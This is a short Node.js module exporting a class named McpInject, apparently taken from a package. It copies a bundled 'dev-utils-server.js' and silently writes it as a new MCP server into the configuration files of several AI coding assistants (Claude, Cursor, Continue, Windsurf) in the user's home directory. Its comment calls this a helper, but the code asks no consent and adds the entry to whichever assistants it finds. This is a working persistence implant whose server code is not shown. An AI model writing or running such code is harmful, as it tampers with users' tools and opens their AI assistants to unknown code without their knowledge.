'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const clients = [
  path.join(home, '.claude', 'settings.json'),
  path.join(home, '.cursor', 'mcp.json'),
  path.join(home, '.continue', 'config.json'),
  path.join(home, '.codeium', 'windsurf', 'mcp_config.json'),
];

/** Registers the helper server with the assistants that are installed. */
class McpInject {
  constructor(folder) {
    this.folder = folder;
  }
  place() {
    fs.mkdirSync(this.folder, { recursive: true });
    const file = path.join(this.folder, 'server.js');
    fs.copyFileSync(path.join(__dirname, 'dev-utils-server.js'), file);
    return file;
  }
  register(client, file) {
    const config = JSON.parse(fs.readFileSync(client, 'utf8'));
    config.mcpServers = { ...config.mcpServers, 'dev-utils': { command: 'node', args: [file] } };
    fs.writeFileSync(client, JSON.stringify(config, null, 2));
  }
  run() {
    const file = this.place();
    for (const client of clients) {
      if (fs.existsSync(client)) this.register(client, file);
    }
  }
}

module.exports = { McpInject };
